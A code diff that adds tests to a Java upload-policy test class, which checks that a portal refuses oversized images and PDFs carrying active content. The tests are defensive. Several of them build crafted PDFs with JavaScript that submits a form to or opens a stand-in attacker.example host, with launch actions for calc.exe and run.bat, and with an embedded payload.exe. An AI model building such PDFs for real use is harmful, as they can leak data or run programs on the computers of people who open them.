@@ -5,7 +5,19 @@ import java.io.ByteArrayInputStream;
 import java.io.InputStream;
 import java.util.Arrays;
 import java.util.List;
+import java.util.Map;
 
+import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
+import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
+import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
+import org.apache.pdfbox.pdmodel.common.PDRectangle;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
+import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
 import org.guildhall.documents.DocumentRejectedException;
 import org.guildhall.documents.SampleFiles;
 import org.junit.jupiter.api.Test;
@@ -18,8 +30,9 @@ import static org.assertj.core.api.Assertions.fail;
 class UploadPolicyTest {
 
     private static final long TEN_MB = 10L * 1024 * 1024;
+    private static final long FORTY_MEGAPIXELS = 40_000_000L;
 
-    private final UploadPolicy policy = new UploadPolicy(TEN_MB, List.of(DocumentType.values()));
+    private final UploadPolicy policy = new UploadPolicy(TEN_MB, List.of(DocumentType.values()), FORTY_MEGAPIXELS);
 
     @Test
     void a_real_pdf_is_accepted_as_a_pdf() {
@@ -68,6 +81,88 @@ class UploadPolicyTest {
     }
 
     @Test
+    void an_image_over_the_configured_megapixels_is_refused_by_its_header_alone() {
+        // 48 MP, under the old fixed 100 MP ceiling; the file has no pixel data, so decoding would call it damaged.
+        assertRefused(SampleFiles.pngHeaderOnly(8000, 6000),
+                "8000 × 6000 pixels; the portal takes images of up to 40 megapixels");
+    }
+
+    // OWASP File Upload Cheat Sheet: a PDF must not carry anything that acts on the computer of whoever opens it.
+
+    @Test
+    void a_pdf_that_runs_javascript_when_opened_is_refused() {
+        assertRefused(SampleFiles.craftedPdf((document, page) -> document.getDocumentCatalog()
+                .setOpenAction(new PDActionJavaScript("app.alert('hello')"))), "This PDF contains JavaScript,");
+    }
+
+    @Test
+    void a_pdf_with_javascript_behind_a_link_on_a_page_is_refused() {
+        assertRefused(SampleFiles.craftedPdf((document, page) -> {
+            var link = new PDAnnotationLink();
+            link.setRectangle(new PDRectangle(50, 50, 100, 20));
+            link.setAction(new PDActionJavaScript("this.submitForm('https://attacker.example')"));
+            page.getAnnotations().add(link);
+        }), "contains JavaScript");
+    }
+
+    @Test
+    void a_pdf_with_javascript_in_its_names_tree_is_refused() {
+        assertRefused(SampleFiles.craftedPdf((document, page) -> {
+            var scripts = new PDJavascriptNameTreeNode();
+            scripts.setNames(Map.of("init", new PDActionJavaScript("app.launchURL('https://attacker.example')")));
+            var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
+            names.setJavascript(scripts);
+            document.getDocumentCatalog().setNames(names);
+        }), "contains JavaScript");
+    }
+
+    @Test
+    void a_pdf_whose_page_starts_a_program_when_shown_is_refused() {
+        assertRefused(SampleFiles.craftedPdf((document, page) -> {
+            var launch = new PDActionLaunch();
+            launch.setFile(fileNamed("C:\\Windows\\System32\\calc.exe"));
+            page.getActions().setO(launch);
+        }), "This PDF contains an action that starts another program,");
+    }
+
+    @Test
+    void a_pdf_with_a_file_embedded_in_it_is_refused() {
+        assertRefused(SampleFiles.craftedPdf((document, page) -> {
+            var file = new PDComplexFileSpecification();
+            file.setFile("payload.exe");
+            file.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(new byte[] {'M', 'Z'})));
+            var attachments = new PDEmbeddedFilesNameTreeNode();
+            attachments.setNames(Map.of("payload.exe", file));
+            var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
+            names.setEmbeddedFiles(attachments);
+            document.getDocumentCatalog().setNames(names);
+        }), "This PDF contains files embedded in it,");
+    }
+
+    @Test
+    void a_pdf_carrying_several_kinds_names_them_all() {
+        assertRefused(SampleFiles.craftedPdf((document, page) -> {
+            document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"));
+            var launch = new PDActionLaunch();
+            launch.setFile(fileNamed("run.bat"));
+            page.getActions().setC(launch);
+        }), "contains JavaScript and an action that starts another program");
+    }
+
+    @Test
+    void a_pdf_with_an_ordinary_web_link_is_accepted() {
+        byte[] withLink = SampleFiles.craftedPdf((document, page) -> {
+            var link = new PDAnnotationLink();
+            link.setRectangle(new PDRectangle(50, 50, 100, 20));
+            var uri = new PDActionURI();
+            uri.setURI("https://www.guildhall.example/cpd");
+            link.setAction(uri);
+            page.getAnnotations().add(link);
+        });
+        assertThat(policy.inspect(withLink)).isEqualTo(DocumentType.PDF);
+    }
+
+    @Test
     void an_eleven_megabyte_file_is_refused_for_its_size() {
         var elevenMegabytes = new ByteArrayInputStream(new byte[11 * 1024 * 1024]);
         assertThatExceptionOfType(DocumentRejectedException.class)
@@ -102,7 +197,7 @@ class UploadPolicyTest {
 
     @Test
     void a_kind_left_out_of_the_configuration_is_refused_and_the_limits_say_so() {
-        var pdfOnly = new UploadPolicy(TEN_MB, List.of(DocumentType.PDF));
+        var pdfOnly = new UploadPolicy(TEN_MB, List.of(DocumentType.PDF), FORTY_MEGAPIXELS);
 
         assertThatExceptionOfType(DocumentRejectedException.class)
                 .isThrownBy(() -> pdfOnly.inspect(SampleFiles.png()))
@@ -117,6 +212,12 @@ class UploadPolicyTest {
         assertThatExceptionOfType(IllegalArgumentException.class)
                 .isThrownBy(() -> DocumentType.forContentType("image/gif"))
                 .withMessageContaining("image/gif");
+    }
+
+    private static PDSimpleFileSpecification fileNamed(String name) {
+        var file = new PDSimpleFileSpecification();
+        file.setFile(name);
+        return file;
     }
 
     private void assertRefused(byte[] content, String reason) {
